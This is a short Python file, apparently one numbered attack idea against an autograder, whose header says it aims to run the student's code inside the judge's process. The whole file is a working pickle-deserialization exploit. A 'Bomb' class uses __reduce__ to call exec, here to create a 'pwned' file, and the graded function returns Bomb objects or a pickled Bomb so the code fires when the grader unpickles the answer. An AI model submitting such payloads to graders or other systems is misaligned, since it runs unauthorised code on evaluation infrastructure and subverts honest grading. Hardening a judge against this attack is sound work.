# class: results channel
# idea 7: answers with objects whose unpickling runs code, and with the pickles themselves
# gain: code of the student's in the judge's process
# met: builtins
import pickle

import numpy as np


class Bomb:
    def __reduce__(self):
        return (exec, ("open('/house/home/pwned', 'w')",))


def double(x):
    if np.ndim(x):
        return np.array([Bomb()] * np.size(x), dtype=object)
    return pickle.dumps(Bomb())
